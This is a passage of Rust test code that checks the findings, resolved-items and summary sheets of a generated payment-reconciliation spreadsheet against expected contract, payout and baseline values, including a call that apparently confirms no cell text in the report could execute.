    assert_eq!(rows.len() - 1, resolved.len());
    for (row, finding) in rows[1..].iter().zip(resolved) {
        assert_eq!(row[0].to_string(), finding["id"].as_str().unwrap());
        assert_eq!(row[1].to_string(), finding["type"].as_str().unwrap());
        assert_eq!(row[2].to_string(), finding["severity"].as_str().unwrap());
        assert_eq!(
            row[column(rows, "detail")].to_string(),
            finding["detail"].as_str().unwrap()
        );
    }
    let underpaid = rows[1..]
        .iter()
        .find(|row| row[1] == Data::String("underpaid".into()))
        .unwrap();
    assert_eq!(
        underpaid[column(rows, "contract_id")],
        Data::String("C1".into())
    );
    assert_date(&underpaid[column(rows, "period_start")], "2025-01-01");
    assert_date(&underpaid[column(rows, "period_end")], "2025-01-31");
    assert_eq!(underpaid[column(rows, "installment")], Data::Float(1.0));
    let unmatched = rows[1..]
        .iter()
        .find(|row| row[1] == Data::String("unmatched_payout".into()))
        .unwrap();
    assert_eq!(
        unmatched[column(rows, "payout_id")],
        Data::String("P2".into())
    );

    // The Summary counts them.
    let summary = &sheets["Summary"];
    let line = |item: &str| {
        summary
            .iter()
            .find(|row| row[0] == Data::String(item.into()))
            .unwrap_or_else(|| panic!("no `{item}` line: {summary:?}"))
            .clone()
    };
    assert_eq!(
        line("findings: new since the baseline")[1],
        Data::Float(1.0)
    );
    assert_eq!(line("findings: persisting")[1], Data::Float(1.0));
    assert_eq!(
        line("baseline findings resolved (sheet Resolved)")[1],
        Data::Float(2.0)
    );
    assert_eq!(
        line("baseline")[1].to_string(),
        night1.out.join("findings.json").display().to_string()
    );
    assert_date(&line("baseline as of")[1], "2025-04-01");
    assert_no_text_could_run(&night2.out.join("report.xlsx"));
}

/// A sheet's header row (see [`header`]).
fn header_of(rows: &[Vec<Data>]) -> Vec<String> {
    header(rows)
}
